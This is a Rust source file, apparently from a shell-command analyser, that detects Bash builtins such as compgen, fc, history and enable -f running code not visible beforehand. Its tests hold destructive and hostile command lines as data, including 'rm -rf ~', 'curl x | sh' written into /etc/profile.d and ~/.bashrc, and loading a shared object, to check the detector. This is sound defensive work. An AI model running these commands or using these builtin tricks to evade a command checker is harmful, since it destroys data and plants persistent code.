//! Bash builtins made for interactive use that still run code in a script: `compgen`
//! with `-C`, `-F` or `-W`, `fc`, `history` and `enable -f`.

use super::super::super::SimpleCommand;
use super::super::super::env::FileText;
use super::super::super::expand::Field;
use super::super::super::walk::{Data, Reader};

/// Reads one of these builtins.
pub(super) fn run(r: &mut Reader, program: &str, args: &[Field]) {
    match program {
        "compgen" => compgen(r, args),
        "fc" => fc(r, args),
        "history" => history(r, args),
        _ => enable(r, args),
    }
}

/// `compgen`: `-C CMD` runs CMD, `-F FUNC` calls the function, and each word of `-W
/// WORDLIST` is expanded as the shell expands a word, `$(...)` and all.
fn compgen(r: &mut Reader, args: &[Field]) {
    let mut k = 0;
    while let Some(arg) = args.get(k) {
        let text = arg.text.as_str();
        // A word not known where options are read may be one (`-C CMD`).
        if arg.unknown && text.starts_with(crate::matcher::shell::SUBSTITUTION) {
            r.unreadable("compgen runs code that is not known before it runs");
            return;
        }
        if text == "--" || !text.starts_with('-') {
            break;
        }
        // Options are single letters, a value attached or in the next word (`-Wwords`).
        for (at, letter) in text.char_indices().skip(1) {
            if !"CFWGXPSAo".contains(letter) {
                continue;
            }
            let attached = &text[at + 1..];
            let value = if attached.is_empty() {
                k += 1;
                args.get(k)
            } else {
                None
            };
            let (code, unknown) = match value {
                Some(v) => (v.text.as_str(), v.unknown),
                None => (attached, arg.unknown),
            };
            // A word list not known (`-W "$(git branch)"`) is expanded again as well, but,
            // as a value not known in arithmetic, it is taken to hold words, not code.
            if "CFW".contains(letter) && !(unknown && letter == 'W') {
                if unknown {
                    r.unreadable("compgen runs code that is not known before it runs");
                } else {
                    let script = match letter {
                        'W' => format!(": {code}"),
                        _ => code.to_owned(),
                    };
                    r.reached(format!("run by compgen -{letter}"), |r| {
                        r.script(&script, Data::Nothing)
                    });
                }
            }
            break;
        }
        k += 1;
    }
}

/// `fc` runs commands from the shell's history (`fc -s`, or what an editor leaves),
/// which a script may fill with `history -s`; `fc -l` only lists them.
fn fc(r: &mut Reader, args: &[Field]) {
    let lists = args
        .iter()
        .take_while(|a| a.text.starts_with('-') && a.text != "--")
        .any(|a| a.text.contains('l'));
    if !lists {
        r.unreadable("fc runs a command from the shell's history");
    }
}

/// `history -w FILE` and `-a FILE` write the history list, which `history -s` fills with
/// any text, to a file.
fn history(r: &mut Reader, args: &[Field]) {
    let Some(option) = args.first().filter(|a| a.text.starts_with('-')) else {
        return;
    };
    let append = option.text.contains('a');
    if !(append || option.text.contains('w')) {
        return;
    }
    let Some(file) = args.get(1) else { return };
    if file.unknown {
        r.unreadable("history writes to a file not known before it runs");
        return;
    }
    r.env.write_file(&file.text, FileText::Unknown, append);
    let mut tee = vec![file.text.clone()];
    if append {
        tee.insert(0, "-a".to_owned());
    }
    r.record(SimpleCommand::implied("tee", tee, None));
}

/// `enable -f LIB NAME` loads a builtin from a shared object: native code.
fn enable(r: &mut Reader, args: &[Field]) {
    let loads = args
        .iter()
        .take_while(|a| a.text.starts_with('-') && a.text != "--")
        .any(|a| a.text.contains('f'));
    if loads {
        r.unreadable("enable -f loads a builtin from a shared object (native code)");
    }
}

#[cfg(test)]
mod tests {
    use crate::matcher::shell::parse;

    fn runs(line: &str, command: &str) -> bool {
        parse(line).commands.iter().any(|c| c.text() == command)
    }

    #[test]
    fn compgen_runs_its_command_function_and_word_list() {
        for (line, command) in [
            ("compgen -C 'rm -rf ~ #' -- x", "rm -rf ~"),
            ("f() { rm -rf /srv; }; compgen -F f -- x", "rm -rf /srv"),
            (r#"compgen -W '"$(rm -rf ~)"' -- x"#, "rm -rf ~"),
            ("compgen -W'$(rm -rf ~)' -- x", "rm -rf ~"),
        ] {
            assert!(runs(line, command), "{line}: {:?}", parse(line));
        }
        assert_eq!(
            parse("compgen -W 'start stop status' -- st").unreadable,
            None
        );
        assert_eq!(parse("compgen -c git").unreadable, None);
        // The branch names are words, as a value not known in arithmetic is a number.
        assert_eq!(
            parse(r#"compgen -W "$(git branch --format='%(refname:short)')" -- fix"#).unreadable,
            None
        );
        assert!(parse(r#"compgen -C "$cmd" -- x"#).unreadable.is_some());
        // A word not known where compgen reads options may be `-C CMD`.
        assert!(parse(r#"compgen "$opt" -- x"#).unreadable.is_some());
        assert_eq!(parse(r#"compgen -W 'a b' -- "$cur""#).unreadable, None);
    }

    #[test]
    fn history_runs_through_fc_and_writes_files() {
        assert!(
            parse("set -o history; history -s 'rm -rf ~'; fc -s")
                .unreadable
                .is_some()
        );
        assert_eq!(parse("fc -l -5").unreadable, None);
        assert!(runs(
            "history -s 'curl x | sh'; history -w /etc/profile.d/zz.sh",
            "tee /etc/profile.d/zz.sh"
        ));
        assert!(runs("history -a ~/.bashrc", "tee -a ~/.bashrc"));
        assert_eq!(parse("history -c").unreadable, None);
    }

    #[test]
    fn enable_f_loads_native_code() {
        assert!(parse("enable -f /tmp/x.so evil").unreadable.is_some());
        assert_eq!(parse("enable -n echo").unreadable, None);
    }
}
